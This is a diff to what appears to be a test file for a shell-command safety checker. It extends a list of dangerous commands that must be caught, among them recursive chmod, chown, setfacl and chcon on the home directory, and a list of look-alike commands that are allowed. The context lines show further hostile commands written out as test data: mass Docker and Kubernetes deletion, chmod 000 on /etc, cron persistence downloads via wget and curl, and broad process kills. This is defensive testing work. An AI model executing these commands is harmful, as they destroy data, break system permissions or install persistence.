@@ -46,7 +46,9 @@ CAUGHT = {
         "docker image prune -a=true", "docker image prune --all=true -f", "nerdctl image prune -fa",
     ],
     "cluster_delete": ["kubectl delete pods --all=true -n x", "kubectl delete deploy -RA"],
-    "chmod_recursive_system": ["chmod --recursive 000 /etc", "chown --rec root: /usr", "chgrp --recu -v staff /var"],
+    "chmod_recursive_system": ["chmod --recursive 000 /etc", "chown --rec root: /usr", "chgrp --recu -v staff /var",
+                               "chown --recu nobody ~", "chmod 777 ~ --rec", "setfacl --rec -m o::rwx ~",
+                               "chcon --recu -t tmp_t ~"],
     "persistence_write": ["wget --directory-pre=/etc/cron.d https://x/job", "curl -sSLo/etc/cron.d/job https://x/j"],
     "kill_broad": [
         "pkill -ef -u alice", "pkill -KILL -U 1000", "pkill --eui=alice", "pkill -9 -g 0", "killall -qu alice",
@@ -84,7 +86,8 @@ ALLOWED = [
     "docker image prune", "docker image prune -f --filter until=24h", "docker image prune --al", "docker image prune --all=false",
     "docker ps --qui | xargs docker rm -f", "kubectl get pods -A", "kubectl delete pods --all=false web-1",
     # chmod/chown
-    "chown --reference=a.txt b.txt", "chmod --recu 644 ./docs", "chown -R me ./src",
+    "chown --reference=a.txt b.txt", "chmod --recu 644 ./docs", "chown -R me ./src", "chmod --recu 700 ~/proj",
+    "setfacl -m u:bob:rwx ~", "setfacl --re -m o::rwx ~/x",
     # pkill/killall: a pattern narrows a selector, a signal word is not an option cluster
     "pkill -HUP nginx", "pkill -USR1 -x nginx", "pkill -x -u bob bash", "killall -s HUP nginx", "killall -9 node",
     "pkill --signal 0 sshd", "pkill -0 sshd", "pkill -P 1234 worker",
